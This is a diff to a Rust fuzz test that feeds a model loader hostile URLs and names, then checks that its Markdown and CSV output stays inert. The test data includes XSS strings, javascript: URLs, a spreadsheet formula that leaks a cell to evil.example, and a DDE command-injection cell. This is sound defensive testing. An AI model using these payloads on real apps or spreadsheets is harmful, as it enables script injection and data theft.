@@ -1,6 +1,7 @@
 //! Mutated copies of the shipped model, from a fixed seed: the loader never panics, answers
 //! within the time budget, places at least one problem when it refuses, and a model it accepts
-//! never shows a character that could act on a terminal.
+//! never shows a character that could act on a terminal, keeps only web addresses as URLs,
+//! and never writes live markup into Markdown nor a formula into a CSV cell.
 //!
 //! `RECHAIN_FUZZ_CASES` sets the number of cases (default 100, about ten seconds in a debug build);
 //! `RECHAIN_FUZZ_SEED` starts from another seed.
@@ -14,6 +15,7 @@ use rechain::model::{EntityRef, Origin};
 
 use crate::common::env_number;
 use crate::common::rng::Rng;
+use crate::injection::{assert_inert_markdown, assert_no_formula_cells};
 
 const NASTY: &[&str] = &[
     "\0",
@@ -52,6 +54,92 @@ const NASTY: &[&str] = &[
     "%YAML 1.1\n",
 ];
 
+/// Pieces of source URLs: schemes, hosts and tails, web addresses and hostile ones.
+const URL_SCHEMES: &[&str] = &[
+    "https://",
+    "http://",
+    "javascript:",
+    "data:text/html,",
+    "HTTPS://",
+    "",
+];
+const URL_HOSTS: &[&str] = &[
+    "ok.example",
+    "x.example:8080",
+    "",
+    "a b.example",
+    "user@evil.example",
+    "[::1]",
+    "-x.example",
+];
+const URL_TAILS: &[&str] = &[
+    "/a",
+    "?q=1&r=2",
+    "#f",
+    "/p_(x)",
+    "> [click me](javascript:alert(1)) <img src=x onerror=alert(document.domain)>",
+    "\"><script>alert(1)</script>",
+    "`x`",
+    " ",
+    "\t",
+    "<",
+    "%3C",
+    "\u{2028}",
+];
+
+/// Names that are markup in Markdown or HTML, or a formula in a spreadsheet.
+const HOSTILE_NAMES: &[&str] = &[
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd",
+    "-2+3",
+    " =1+1",
+    "\t=1",
+    "<img src=x onerror=alert(1)>",
+    "[x](javascript:alert(1))",
+    "a & b &amp;",
+    "# heading",
+    "> quote",
+    "| cell |",
+    "*em* _em_ `code`",
+    "<https://ok.example/>",
+];
+
+/// A source URL made of random pieces: often a web address, often not.
+fn url(rng: &mut Rng) -> String {
+    let mut url = format!("{}{}", rng.pick(URL_SCHEMES), rng.pick(URL_HOSTS));
+    for _ in 0..rng.below(3) {
+        let tail = *rng.pick(URL_TAILS);
+        url.push_str(tail);
+    }
+    url
+}
+
+/// The value of one random `key: ` line (`url: ` or a name) replaced by `value`, quoted.
+fn replace_value(rng: &mut Rng, bytes: &mut Vec<u8>, key: &str, value: &str) {
+    let text = String::from_utf8_lossy(bytes).into_owned();
+    let lines: Vec<&str> = text.lines().collect();
+    let found: Vec<usize> = (0..lines.len())
+        .filter(|&i| lines[i].trim_start().starts_with(key))
+        .collect();
+    if found.is_empty() {
+        return;
+    }
+    let at = *rng.pick(&found);
+    let indent = lines[at].len() - lines[at].trim_start().len();
+    let quoted = serde_json::to_string(value).unwrap();
+    let mut out = String::with_capacity(text.len() + quoted.len());
+    for (i, line) in lines.iter().enumerate() {
+        if i == at {
+            let _ = writeln!(out, "{}{key}{quoted}", &line[..indent]);
+        } else {
+            out.push_str(line);
+            out.push('\n');
+        }
+    }
+    *bytes = out.into_bytes();
+}
+
 /// One random change to the text, as bytes (some changes break UTF-8 on purpose).
 #[allow(
     clippy::too_many_lines,
@@ -70,7 +158,7 @@ fn mutate(rng: &mut Rng, bytes: &mut Vec<u8>) {
         );
         starts
     };
-    match rng.below(13) {
+    match rng.below(15) {
         // Byte flips.
         0 => {
             for _ in 0..=rng.below(4) {
@@ -174,6 +262,16 @@ fn mutate(rng: &mut Rng, bytes: &mut Vec<u8>) {
                 bytes.insert(at, 0);
             }
         }
+        // A source URL, valid or hostile.
+        13 => {
+            let url = url(rng);
+            replace_value(rng, bytes, "url: ", &url);
+        }
+        // A name that is markup or a formula.
+        14 => {
+            let name = *rng.pick(HOSTILE_NAMES);
+            replace_value(rng, bytes, "name: ", name);
+        }
         // A line of another line's text at a random place.
         _ => {
             let starts = line_starts();
@@ -250,13 +348,28 @@ fn mutated_models_never_panic_hang_or_leak_controls() {
             }
             Ok(model) => {
                 accepted += 1;
+                for source in &model.sources {
+                    let url = source.url.as_deref().unwrap_or("https://none.example");
+                    assert!(
+                        rechain::model::url::is_web_url(url),
+                        "case {case} (seed {seed:#x}): the URL {url:?} was accepted"
+                    );
+                }
+                let every_plant: Vec<usize> = (0..model.facilities.len()).collect();
+                let csv = rechain::present::plants::plants_csv(&model, &every_plant, 25);
+                assert_no_formula_cells(&format!("case {case} (seed {seed:#x})"), &csv);
                 // Only a few accepted models are rendered in full: cards are the costly part.
                 if accepted % 8 == 1 {
                     for entity in entities(&model) {
-                        let plain = rechain::present::card::card(&model, entity).to_plain_text();
+                        let card = rechain::present::card::card(&model, entity);
+                        let plain = card.to_plain_text();
                         assert!(
                             !plain.chars().any(rechain::text::is_unsafe),
                             "case {case} (seed {seed:#x}): {entity:?} shows {plain:?}"
+                        );
+                        assert_inert_markdown(
+                            &format!("case {case} (seed {seed:#x}): {entity:?}"),
+                            &card.to_markdown_with_sources(&model),
                         );
                     }
                 }
